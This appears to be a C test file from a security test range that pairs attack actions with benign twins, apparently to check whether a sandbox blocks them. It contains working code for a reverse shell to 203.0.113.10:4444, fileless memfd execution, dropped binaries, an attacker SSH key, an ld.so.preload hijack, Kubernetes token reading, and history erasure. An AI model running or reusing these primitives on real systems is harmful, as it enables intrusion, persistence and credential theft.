/* SPDX-License-Identifier: Apache-2.0 */
/* Programs that are brought, and programs that should not be run. */
#include "tests/attacks/range/action.h"

#define OWN   "/usr/bin/range-action"
#define TOKEN "/run/secrets/kubernetes.io/serviceaccount/token"

static char *const no_environment[] = { NULL };

static int run(const char *path, const char *const argv[])
{
	pid_t pid = fork();

	if (pid < 0)
		return errno;
	if (pid == 0) {
		execve(path, (char *const *)argv, no_environment);
		_exit(errno);
	}
	return result_of(pid);
}

static int run_ran(const char *path)
{
	const char *const argv[] = { "program", "ran", NULL };

	return run(path, argv);
}

static int run_own(char **args)
{
	return run_ran(OWN);
}

static int copy(int to)
{
	int from = open(OWN, O_RDONLY | O_CLOEXEC);
	char buf[65536];
	ssize_t n;

	if (from < 0)
		return errno;
	while ((n = read(from, buf, sizeof(buf))) > 0)
		if (write(to, buf, (size_t)n) != n)
			return errno;
	close(from);
	return result(n);
}

static int memfd(char **args)
{
	const char *const argv[] = { "program", "ran", NULL };
	int fd = memfd_create("x", MFD_CLOEXEC), r;

	if (fd < 0)
		return errno;
	r = copy(fd);
	if (r)
		return r;
	syscall(SYS_execveat, fd, "", argv, no_environment, AT_EMPTY_PATH);
	return errno;
}

static int drop(const char *path)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755), r;

	if (fd < 0)
		return errno;
	r = copy(fd);
	close(fd);
	if (r)
		return r;
	return run_ran(path);
}

static int drop_in_tmp(char **args)
{
	return drop("/tmp/dropped");
}

static int drop_in_shm(char **args)
{
	return drop("/dev/shm/dropped");
}

static int write_in_tmp(char **args)
{
	int r = write_file("/tmp/kept", O_CREAT, "text");

	return r ? r : result(unlink("/tmp/kept"));
}

static int write_in_shm(char **args)
{
	int r = write_file("/dev/shm/kept", O_CREAT, "text");

	return r ? r : result(unlink("/dev/shm/kept"));
}

/* To whoever waits for it, a shell with the connection as its terminal. */
static int reverse_shell(char **args)
{
	const char *const argv[] = { "sh", NULL };
	int fd = connect_to("203.0.113.10", 4444);

	if (fd < 0)
		return errno;
	for (int i = 0; i < 3; i++)
		dup2(fd, i);
	execve("/bin/sh", (char *const *)argv, no_environment);
	return errno;
}

static int ask_database(char **args)
{
	return greet(DATABASE, DATABASE_PORT);
}

static int downloader(char **args)
{
	const char *const argv[] = { "sh", "-c", "/usr/bin/range-helper fetch", NULL };

	return run("/bin/sh", argv);
}

static int ssh_key(char **args)
{
	return write_file("/root/.ssh/authorized_keys", O_CREAT, "ssh-ed25519 AAAA attacker\n");
}

static int preload(char **args)
{
	return write_file("/etc/ld.so.preload", O_CREAT, "/tmp/evil.so\n");
}

/*
 * A shell without the service's environment, which has it looked up, and erases its history. By our
 * own helper: firejail's default profile has no busybox, and would refuse that alone.
 */
static int environ_attack(char **args)
{
	char command[128];
	const char *const argv[] = { "sh", "-c", command, NULL };

	snprintf(command, sizeof(command),
		"/usr/bin/range-helper show /proc/%d/environ; r=$?; : >" DATA
		"/.sh_history; exit $r",
		getpid());
	return run("/bin/sh", argv);
}

static int token_attack(char **args)
{
	const char *const argv[] = { "helper", "show", TOKEN, NULL };

	return run("/usr/bin/range-helper", argv);
}

static int token_twin(char **args)
{
	const char *const argv[] = { "helper", "show", DATA "/hello", NULL };
	int r = show_file(TOKEN);

	return r ? r : run("/usr/bin/range-helper", argv);
}

const struct action program_actions[] = {
	{ "memfd", memfd, run_own },
	{ "preload", preload, write_own },
	{ "reverse-shell", reverse_shell, ask_database },
	{ "drop-tmp", drop_in_tmp, write_in_tmp },
	{ "drop-shm", drop_in_shm, write_in_shm },
	{ "token", token_attack, token_twin },
	{ "downloader", downloader, run_own },
	{ "ssh-key", ssh_key, write_own },
	{ "environ", environ_attack, run_own },
	{ 0 },
};
